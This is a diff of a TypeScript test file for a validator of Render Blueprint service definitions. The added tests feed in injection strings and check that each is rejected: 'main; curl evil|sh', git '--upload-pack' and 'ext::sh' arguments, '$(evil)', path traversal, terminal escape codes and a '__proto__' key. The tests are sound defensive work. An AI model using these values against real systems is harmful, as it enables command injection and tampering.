@@ -1,6 +1,12 @@
+import {
+  branchExpected,
+  domainExpected,
+  envVarKeyExpected,
+  healthCheckPathExpected,
+  lineExpected,
+  pathWithinExpected,
+} from "@slipway/render-api";
 import { describe, expect, test } from "vitest";
-import { envVarKeyExpected } from "@slipway/render-api";
-import { partNames } from "./names";
 import { broughtFrom, problemsOf } from "./imported.fixture";
 
 const service = (more = "") => `services:
@@ -112,14 +118,50 @@ describe("what is wrong in a Blueprint is told with its line, and nothing is bro
   });
 
   test("services of two repositories or branches", () => {
-    const two = (field: string) =>
-      `${service(`    ${field}: one\n`)}${service(`    ${field}: two\n`).replace("services:\n", "").replace("name: api", "name: web")}`;
-    expect(problemsOf(two("repo"))).toEqual([
-      "line 13, services[1].repo: is `two`, and that of `api` is `one`: all services of a system have the same",
+    const two = (field: string, one: string, another: string) =>
+      `${service(`    ${field}: ${one}\n`)}${service(`    ${field}: ${another}\n`).replace("services:\n", "").replace("name: api", "name: web")}`;
+    expect(problemsOf(two("repo", "https://a.com/one", "https://a.com/two"))).toEqual([
+      "line 13, services[1].repo: is `https://a.com/two`, and that of `api` is `https://a.com/one`: all services of a system have the same",
     ]);
-    expect(problemsOf(two("branch"))).toEqual([
+    expect(problemsOf(two("branch", "one", "two"))).toEqual([
       "line 13, services[1].branch: is `two`, and that of `api` is `one`: all services of a system have the same",
     ]);
+  });
+});
+
+describe("what would be something else elsewhere is a problem, and is not shown as it is", () => {
+  const url = "expected a Git URL such as `https://github.com/acme/shop`";
+  test.each<[string, string, string]>([
+    ["branch", "main; curl evil|sh", `expected ${branchExpected}`],
+    ["branch", "--upload-pack=evil", `expected ${branchExpected}`],
+    ["branch", "main\nevil", `expected ${branchExpected}`],
+    ["repo", "$(evil)", url],
+    ["repo", "--upload-pack=evil", url],
+    ["repo", "ext::sh -c evil", url],
+    ["repo", "../elsewhere", url],
+    ["repo", "https://a.com/b;evil c", url],
+    ["repo", "https://a.com/b\u001b[2J", `expected ${lineExpected}`],
+    ["rootDir", "../elsewhere", `expected ${pathWithinExpected}`],
+    ["domain", "a.com/`evil`", `expected ${domainExpected}`],
+    ["healthCheckPath", "@evil.com/", `expected ${healthCheckPathExpected}`],
+  ])("%s: %j", (field, value, expected) => {
+    expect(problemsOf(service(`    ${field}: ${JSON.stringify(value)}\n`))).toEqual([
+      `line 7, services[0].${field}: ${expected}`,
+    ]);
+  });
+
+  test("a variable that is what every object has", () => {
+    expect(problemsOf(variable("value: a").replace("VALUE", "__proto__"))).toEqual([
+      "line 8, services[0].envVars[0].key: is a name that no manifest can have",
+    ]);
+  });
+
+  test("what is told of a file's words stays one line", () => {
+    const lines = problemsOf(service(`    "a\\nline 1: b\\e[2J": 1\n`));
+    expect(lines).toEqual(["line 7, services[0].a line 1: b [2J: isn't known to Render's specification"]);
+    expect(problemsOf(service().replace("runtime: node", 'runtime: "a\\n\\u202eb"'))[0]).toContain(
+      "`a b` is no runtime",
+    );
   });
 });
 
@@ -181,18 +223,5 @@ describe("what can't be brought over is told with its line, and the rest is", ()
       { key: "SECRET", value: { asked: { service: "web", key: "SECRET" } } },
       { key: "URL", value: { asked: { service: "web", key: "URL" } } },
     ]);
-  });
-});
-
-describe("parts have names of their own, by what the Blueprint calls them", () => {
-  test.each<[string, string[], string[]]>([
-    ["that the settings of all systems have, none", ["plans", "shop-domains"], ["part-plans", "part-domains"]],
-    ["in small letters, each once", ["My API!", "my api", "7up"], ["my-api", "my-api-2", "part-7up"]],
-    ["without the system's name", ["shop-api", "web"], ["api", "web"]],
-    ["without what all have in common", ["acme-shop-api-eu", "acme-shop-web-eu"], ["api", "web"]],
-    ["but for a word of its own", ["acme-eu", "acme-api-eu"], ["eu", "api-eu"]],
-    ["alone", ["shop-api-eu"], ["api-eu"]],
-  ])("%s", (_, names, expected) => {
-    expect([...partNames("shop", names).values()]).toEqual(expected);
   });
 });
